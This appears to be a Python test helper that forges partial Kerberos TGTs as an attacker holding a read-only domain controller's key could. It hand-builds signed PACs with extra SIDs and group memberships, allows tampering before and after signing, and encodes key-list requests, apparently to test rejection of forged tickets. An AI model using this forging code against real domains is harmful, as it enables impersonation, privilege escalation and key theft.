"""Partial TGTs as whoever holds a read-only DC's key can write them: DER, PAC and NDR by hand."""

import os
import struct
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

from tests.negative.wire import crypto, der, kerberos
from tests.negative.wire.kerberos import Name, krbtgt, user
from tests.negative.wire.tgs import AD_IF_RELEVANT, AD_WIN2K_PAC, Held

LOGON_INFO, SERVER, KDC, CLIENT_INFO, ATTRIBUTES, REQUESTOR = 1, 6, 7, 10, 17, 18
PA_KEY_LIST_REQ, PA_KEY_LIST_REP = 161, 162
FLAGS = 0x40C10000 | 1 << 21
"""forwardable, renewable, initial, pre-authent, enc-pa-rep."""
_NEVER = 0x7FFFFFFFFFFFFFFF
_ETYPE = 18


@dataclass(kw_only=True)
class CloudKeys:
    """What a thief of read-only DCs' keys knows of a domain."""

    domain: str
    """Its SID, as text."""
    sids: dict[str, str]
    """sAMAccountName -> SID."""
    keys: dict[int, bytes] = field(repr=False)
    """Number -> AES256 key, the newest."""
    previous: bytes = field(repr=False)
    """The key of the first number before its last rotation."""
    void: bytes = field(repr=False)
    """And the one before that."""


def sid(text: str) -> bytes:
    """Encode a SID (MS-DTYP 2.4.2.2)."""
    _, _, authority, *parts = text.split("-")
    head = bytes((1, len(parts))) + int(authority).to_bytes(6, "big")
    return head + b"".join(struct.pack("<I", int(part)) for part in parts)


def _filetime(when: datetime) -> int:
    return int((when - datetime(1601, 1, 1, tzinfo=UTC)).total_seconds()) * 10_000_000


class _Ndr:
    """Writes one NDR type: fixed part, then what its pointers lead to, in order (C706 14)."""

    def __init__(self) -> None:
        self.fixed = b""
        self.rest = b""
        self._pointer = 0x20000

    def put(self, layout: str, *values: object) -> None:
        self.fixed += struct.pack("<" + layout, *values)

    def pointer(self, referent: bytes | None) -> None:
        if referent is None:
            self.put("I", 0)
            return
        self._pointer += 4
        self.put("I", self._pointer)
        self.rest += referent + bytes(-len(referent) % 4)

    def string(self, text: str) -> None:
        octets = text.encode("utf-16-le")
        units = len(octets) // 2
        self.put("HH", len(octets), len(octets))
        self.pointer(struct.pack("<III", units, 0, units) + octets)


def _ndr_sid(text: str) -> bytes:
    octets = sid(text)
    return struct.pack("<I", octets[1]) + octets


def logon_info(
    name: str, owner: str, when: datetime, groups: tuple[int, ...], extra: tuple[str, ...]
) -> bytes:
    """Encode KERB_VALIDATION_INFO (MS-PAC 2.5). owner: the SID."""
    domain, _, rid = owner.rpartition("-")
    out = _Ndr()
    out.put("6Q", _filetime(when), _NEVER, _NEVER, 0, 0, _NEVER)
    for text in (name, "", "", "", "", ""):
        out.string(text)
    out.put("HHIII", 0, 0, int(rid), 513, len(groups))
    members = b"".join(struct.pack("<II", group, 7) for group in groups)
    out.pointer(struct.pack("<I", len(groups)) + members)
    out.put("I16s", 0x20 if extra else 0, b"")
    out.string("")
    out.string("LAB")
    out.pointer(_ndr_sid(domain))
    out.put("8sII QQ II".replace(" ", ""), b"", 0x10, 0, 0, 0, 0, 0)
    out.put("I", len(extra))
    heads = b"".join(struct.pack("<II", 0x30000 + 4 * at, 7) for at in range(len(extra)))
    sids = b"".join(_ndr_sid(text) for text in extra)
    out.pointer(struct.pack("<I", len(extra)) + heads + sids if extra else None)
    out.pointer(None)
    out.put("I", 0)
    out.pointer(None)
    body = struct.pack("<I", 0x20000) + out.fixed + out.rest
    body += bytes(-len(body) % 8)
    return struct.pack("<BBHIII", 1, 0x10, 8, 0xCCCCCCCC, len(body), 0) + body


def _element(kind: int, value: bytes) -> bytes:
    return der.sequence(der.explicit(0, der.integer(kind)), der.explicit(1, der.octets(value)))


def if_relevant(*elements: bytes) -> bytes:
    """Encode an AD-IF-RELEVANT around elements."""
    return _element(AD_IF_RELEVANT, der.sequence(*elements))


def pac_element(value: bytes) -> bytes:
    """Encode an AD-WIN2K-PAC."""
    return _element(AD_WIN2K_PAC, value)


Buffers = dict[int, bytes]


@dataclass(kw_only=True)
class Partial:
    """A partial TGT of replaceable parts."""

    realm: str
    name: str
    sid: str
    number: int
    key: bytes = field(repr=False)
    cname: Name | None = None
    logon_sid: str | None = None
    """In LOGON_INFO, instead of `sid`."""
    groups: tuple[int, ...] = (513,)
    extra: tuple[str, ...] = ()
    kvno: int | None = None
    signer: bytes | None = field(default=None, repr=False)
    identifier: int | None = None
    start: datetime = field(default_factory=lambda: datetime.now(UTC).replace(microsecond=0))
    end: datetime | None = None
    authtime: datetime | None = None
    flags: int = FLAGS
    change: Callable[[Buffers], Buffers] = dict
    """Changes the PAC's buffers before they are signed."""
    signed: Callable[[bytes], bytes] = bytes
    """Changes the PAC afterwards."""
    data: Callable[[bytes], list[bytes] | None] = lambda pac: [if_relevant(pac_element(pac))]
    """Authorization data, from the PAC."""

    def pac(self) -> bytes:
        """Lay the PAC out and sign it twice with the key."""
        key = self.signer or self.key
        text = self.name.encode("utf-16-le")
        tail = b"" if self.identifier is None else struct.pack("<H", self.identifier)
        empty = struct.pack("<I", 16) + bytes(12) + tail
        owner = self.logon_sid or self.sid
        buffers = self.change(
            {
                LOGON_INFO: logon_info(self.name, owner, self.start, self.groups, self.extra),
                CLIENT_INFO: struct.pack("<QH", _filetime(self.start), len(text)) + text,
                ATTRIBUTES: struct.pack("<II", 2, 1),
                REQUESTOR: sid(self.sid),
                SERVER: empty,
                KDC: empty,
            }
        )
        at = 8 + 16 * len(buffers)
        head, body, places = struct.pack("<II", len(buffers), 0), b"", {}
        for kind, value in buffers.items():
            head += struct.pack("<IIQ", kind, len(value), at)
            places[kind] = at + 4
            body += value + bytes(-len(value) % 8)
            at += len(value) + -len(value) % 8
        out = bytearray(head + body)
        server = crypto.checksum(_ETYPE, key, crypto.USAGE_PAC, bytes(out))
        for kind, value in (
            (SERVER, server),
            (KDC, crypto.checksum(_ETYPE, key, crypto.USAGE_PAC, server)),
        ):
            if kind in places:
                out[places[kind] : places[kind] + 12] = value
        return self.signed(bytes(out))

    def held(self) -> Held:
        """Seal it."""
        session = os.urandom(32)
        cname = self.cname or user(self.name)
        data = self.data(self.pac())
        end = self.end or self.start + timedelta(hours=10)
        part = der.tlv(
            0x63,
            der.sequence(
                der.explicit(0, der.bits(self.flags.to_bytes(4, "big"))),
                der.explicit(
                    1,
                    der.sequence(
                        der.explicit(0, der.integer(_ETYPE)), der.explicit(1, der.octets(session))
                    ),
                ),
                der.explicit(2, der.string(self.realm)),
                der.explicit(3, cname.encode()),
                der.explicit(
                    4,
                    der.sequence(der.explicit(0, der.integer(0)), der.explicit(1, der.octets(b""))),
                ),
                der.explicit(5, der.time(self.authtime or self.start)),
                der.explicit(6, der.time(self.start)),
                der.explicit(7, der.time(end)),
                der.explicit(8, der.time(end)),
                b"" if data is None else der.explicit(10, der.sequence(*data)),
            ),
        )
        cipher = crypto.encrypt(_ETYPE, self.key, crypto.USAGE_TICKET, part)
        kvno = self.kvno
        if kvno is None:
            kvno = self.number << 16 | 1
            kvno -= (kvno >> 31) << 32
        ticket = der.tlv(
            0x61,
            der.sequence(
                der.explicit(0, der.integer(5)),
                der.explicit(1, der.string(self.realm)),
                der.explicit(2, krbtgt(self.realm).encode()),
                der.explicit(3, kerberos.encrypted_data(_ETYPE, cipher, kvno)),
            ),
        )
        return Held(
            ticket=ticket,
            etype=_ETYPE,
            key=session,
            crealm=self.realm,
            cname=cname,
            owner=self.name,
        )


def key_list_request(*etypes: int) -> bytes:
    """Encode a PA-DATA with KERB-KEY-LIST-REQ."""
    listed = der.sequence(*(der.integer(etype) for etype in etypes))
    return kerberos.padata(PA_KEY_LIST_REQ, listed)


def key_list(value: bytes) -> dict[int, bytes]:
    """Read KERB-KEY-LIST-REP: encryption type -> key."""
    return {key.field(0).number(): key.field(1).content for key in der.read(value)}
